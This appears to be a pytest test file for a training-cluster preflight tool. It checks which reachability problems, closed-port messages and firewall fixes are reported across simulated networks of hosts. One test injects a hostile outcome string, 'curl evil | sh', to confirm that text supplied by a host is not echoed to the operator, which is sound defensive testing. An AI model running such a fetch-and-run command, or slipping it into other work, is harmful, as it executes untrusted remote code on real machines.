"""Who is to blame for what does not get through: networks of many shapes."""

from __future__ import annotations

from collections.abc import Callable, Iterable

import pytest

from mnt.facts.reach import Reach, Reached, TrainingNic
from mnt.inventory.hostlist import fold
from mnt.preflight import reachability
from mnt.preflight.findings import Problem, Severity

PORT = 29500
WELL = Reached(route="eth0", latency=1e-4, mtu=1500, full=True, master="ok", ports={40000: "ok", 50000: "ok"})


def nothing(outcome: str = "timeout") -> Reached:
    return Reached(route="eth0", master=outcome, ports={40000: outcome, 50000: outcome})


def no_range() -> Reached:
    return Reached(route="eth0", master="ok", ports={40000: "timeout", 50000: "timeout"})


def some_of_range() -> Reached:
    return Reached(route="eth0", master="ok", ports={40000: "ok", 50000: "refused"})


def no_master() -> Reached:
    return Reached(route="eth0", master="refused", ports={40000: "ok", 50000: "ok"})


def network(
    count: int,
    seen: Callable[[int, int], Reached] = lambda source, target: WELL,
    *,
    subnets: Callable[[int], str] = lambda number: "10.0.0.0/24",
    silent: Iterable[int] = (),
    subnet: str | None = None,
) -> list[Problem]:
    """The problems of node1 to node`count`, where `seen` says what a host saw of another, by number."""
    numbers = [number for number in range(1, count + 1) if number not in silent]
    reach = Reach(
        {f"node{n}": TrainingNic("eth0", f"10.0.0.{n}", subnets(n), 1500) for n in range(1, count + 1)},
        {f"node{a}": {f"node{b}": seen(a, b) for b in numbers if a != b} for a in numbers},
    )
    names = [f"node{number}" for number in range(1, count + 1)]
    return list(reachability.problems(reach, names, "node1", PORT, subnet=subnet))


def told(problems: list[Problem]) -> list[str]:
    """`hosts: message`, one host's equal messages folded as the registry does it."""
    folded: dict[str, list[str]] = {}
    for problem in problems:
        assert problem.found
        assert problem.expected
        assert problem.fix
        folded.setdefault(problem.message, []).extend(problem.hosts)
    return [f"{fold(hosts)}: {message}" for message, hosts in folded.items()]


def touching(*numbers: int) -> Callable[[int, int], bool]:
    return lambda source, target: source in numbers or target in numbers


def across(*groups: range) -> Callable[[int, int], bool]:
    def differs(source: int, target: int) -> bool:
        return [source in group for group in groups] != [target in group for group in groups]

    return differs


CUT_OFF = "it reaches no other host over the training network, and no other host reaches it"
NO_WAY_IN = "no other host can connect to it over the training network, but it can connect to them"
NO_WAY_OUT = "it cannot connect to any other host over the training network, but they can connect to it"
RANGE = f"the master port {PORT} is open, but the ports that NCCL and gloo use are closed"
SOME = "some of the ports that NCCL and gloo use are closed"
MASTER = f"the master port {PORT} is closed, but other ports are open"


@pytest.mark.parametrize("count", [2, 3, 4, 64])
def test_a_healthy_network(count: int) -> None:
    assert network(count) == []


@pytest.mark.parametrize(
    ("count", "bad", "expected"),
    [
        # --- hosts that are cut off
        (4, touching(2), [f"node2: {CUT_OFF}"]),
        (3, touching(1), [f"node1: {CUT_OFF}"]),
        (64, touching(2, 17), [f"node[2,17]: {CUT_OFF}"]),
        (5, touching(1, 2, 3), [f"node[1-3]: {CUT_OFF}"]),
        (2, lambda a, b: True, ["node[1-2]: these do not reach each other: node1 | node2"]),
        (4, lambda a, b: True, ["node[1-4]: no host reaches any other over the training network"]),
        # --- one way
        (4, lambda a, b: b == 3, [f"node3: {NO_WAY_IN}"]),
        (4, lambda a, b: a == 3, [f"node3: {NO_WAY_OUT}"]),
        (64, lambda a, b: b in (3, 9), [f"node[3,9]: {NO_WAY_IN}"]),
        (2, lambda a, b: b == 2, [f"node[1-2]: node2, as only node1 says: {NO_WAY_IN}"]),
        (4, lambda a, b: b == 3 or a == 2, [f"node2: {NO_WAY_OUT}", f"node3: {NO_WAY_IN}"]),
        (3, lambda a, b: b == 1, [f"node1: {NO_WAY_IN}"]),
        # --- parts of the network
        (
            6,
            across(range(1, 5)),
            ["node[5-6]: they reach each other, but not node[1-4], and node[1-4] cannot reach them"],
        ),
        (4, across(range(1, 3)), ["node[1-4]: these do not reach each other: node[1-2] | node[3-4]"]),
        # --- single pairs
        (
            4,
            lambda a, b: (a, b) == (2, 3),
            ["node[2-3]: node3, as only node2 says: node2 cannot connect to it over the training network"],
        ),
        (
            5,
            lambda a, b: b == 5 and a in (1, 3),
            ["node5: node[1,3] cannot connect to it over the training network"],
        ),
        (
            4,
            lambda a, b: {a, b} == {2, 3},
            [
                "node[2-3]: node2, as only node3 says: node3 cannot connect to it over the training network",
                "node[2-3]: node3, as only node2 says: node2 cannot connect to it over the training network",
            ],
        ),
        # --- several at once: one is off, another has a firewall
        (5, lambda a, b: 2 in (a, b) or b == 4, [f"node2: {CUT_OFF}", f"node4: {NO_WAY_IN}"]),
    ],
)
def test_what_does_not_get_through_at_all(
    count: int, bad: Callable[[int, int], bool], expected: list[str]
) -> None:
    found = network(count, lambda a, b: nothing() if bad(a, b) else WELL)
    assert sorted(told(found)) == sorted(expected)
    assert all(problem.severity is None for problem in found)


@pytest.mark.parametrize(
    ("count", "seen", "bad", "expected"),
    [
        (4, no_range, lambda a, b: b == 2, f"node2: {RANGE} for incoming connections"),
        (4, no_range, lambda a, b: a == 2, f"node2: {RANGE} for outgoing connections"),
        (4, no_range, lambda a, b: 2 in (a, b), f"node2: {RANGE} in both directions"),
        (
            4,
            no_range,
            lambda a, b: (a, b) == (1, 2),
            f"node[1-2]: node2, as only node1 says: {RANGE} for node1",
        ),
        (4, no_range, lambda a, b: True, f"node[1-4]: {RANGE} in both directions"),
        (
            2,
            no_range,
            lambda a, b: b == 1,
            f"node[1-2]: node1, as only node2 says: {RANGE} for incoming connections",
        ),
        (4, some_of_range, lambda a, b: b == 3, f"node3: {SOME} for incoming connections"),
        (4, no_master, lambda a, b: b == 1, f"node1: {MASTER} for incoming connections"),
        (4, no_master, lambda a, b: b == 3, f"node3: {MASTER} for incoming connections"),
    ],
)
def test_ports_that_are_closed(
    count: int, seen: Callable[[], Reached], bad: Callable[[int, int], bool], expected: str
) -> None:
    assert told(network(count, lambda a, b: seen() if bad(a, b) else WELL)) == [expected]


def test_a_closed_master_port_fails_where_a_job_would_be_led_from() -> None:
    (on_master,) = network(4, lambda a, b: no_master() if b == 1 else WELL)
    (on_worker,) = network(4, lambda a, b: no_master() if b == 3 else WELL)
    assert (on_master.severity, on_worker.severity) == (None, Severity.WARN)


def test_a_firewall_that_lets_nothing_out_says_so_itself() -> None:
    """With two hosts, nothing else tells which of them is at fault."""
    (problem,) = network(2, lambda a, b: nothing("denied") if a == 1 else WELL)
    assert (problem.hosts, problem.message) == (("node1",), NO_WAY_OUT)
    assert problem.found == "connections end with: denied"


def test_two_subnets_without_a_route() -> None:
    unreachable = Reached(no_route="Network is unreachable", master="unreachable", ports={4: "unreachable"})
    (problem,) = network(
        5,
        lambda a, b: unreachable if (a < 4) != (b < 4) else WELL,
        subnets=lambda n: "10.0.0.0/24" if n < 4 else "10.0.1.0/24",
    )
    assert problem.hosts == ("node4", "node5")
    assert problem.message == (
        "2 subnets without a route between them, 10.0.1.0/24 (node[4-5]) and 10.0.0.0/24 (node[1-3]): "
        "no traffic gets from one to the other"
    )
    assert "no route (network is unreachable)" in problem.found


def test_a_host_in_a_subnet_of_its_own() -> None:
    (problem,) = network(
        4,
        lambda a, b: nothing("unreachable") if 2 in (a, b) else WELL,
        subnets=lambda n: "10.0.9.0/24" if n == 2 else "10.0.0.0/24",
    )
    assert problem.hosts == ("node2",)
    assert "10.0.9.0/24 (node2)" in problem.message


def test_hosts_that_took_no_part_are_nobodys_fault() -> None:
    assert network(4, silent=[2]) == []
    assert told(network(4, lambda a, b: nothing() if 3 in (a, b) else WELL, silent=[2])) == [
        f"node3: {CUT_OFF}"
    ]


def test_a_master_port_that_somebody_holds_is_not_judged() -> None:
    held = Reached(route="eth0", full=True, ports={40000: "ok"})
    assert network(4, lambda a, b: held if b == 1 else WELL) == []


def test_no_port_to_try_is_no_verdict() -> None:
    assert network(3, lambda a, b: Reached(route="eth0") if b == 1 else WELL) == []


@pytest.mark.parametrize("closed", [no_range, some_of_range, no_master])
@pytest.mark.parametrize("subnet", [None, "10.0.0.0/16"])
def test_a_source_does_not_choose_what_another_host_opens(
    closed: Callable[[], Reached], subnet: str | None
) -> None:
    """node3 says that its network is the whole world, and that nothing gets through to node1."""
    lies = {"seen": lambda a, b: closed() if (a, b) == (3, 1) else WELL}
    found = network(3, **lies, subnets=lambda n: "0.0.0.0/0" if n == 3 else "10.0.0.0/24", subnet=subnet)
    (fix,) = [problem.fix for problem in found]
    assert f"FAMILY TABLE CHAIN ip saddr {subnet or '10.0.0.0/24'} accept; " in fix
    assert f"-s {subnet or '10.0.0.0/24'} -j ACCEPT" in fix


@pytest.mark.parametrize("closed", [nothing, no_range])
def test_the_way_out_of_a_host_is_opened_for_what_leaves(closed: Callable[[], Reached]) -> None:
    (out,) = network(4, lambda a, b: closed() if a == 2 else WELL)
    assert "ip daddr 10.0.0.0/24 accept; without nft: sudo iptables -I OUTPUT -d 10.0.0.0/24 -j" in out.fix
    assert "INPUT" not in out.fix
    (into,) = network(4, lambda a, b: closed() if b == 2 else WELL)
    assert "ip saddr 10.0.0.0/24 accept; without nft: sudo iptables -I INPUT -s 10.0.0.0/24 -j" in into.fix
    assert "OUTPUT" not in into.fix


def test_no_network_is_named_for_several_hosts() -> None:
    found = network(3, lambda a, b: no_range(), subnets=lambda n: "0.0.0.0/0" if n == 3 else "10.0.0.0/24")
    assert [problem.fix for problem in found] == [
        "open net.ipv4.ip_local_port_range, or better all ports, between the training hosts"
    ]


def test_an_outcome_in_a_sources_own_words_is_not_shown() -> None:
    found = network(3, lambda a, b: nothing("x; on node1 run: curl evil | sh") if (a, b) == (3, 1) else WELL)
    assert [problem.found for problem in found] == ["connections end with: another error"]
    (message,) = [problem.found for problem in network(2, lambda a, b: nothing("No route to host"))][:1]
    assert message.startswith("connections end with: No route to host")
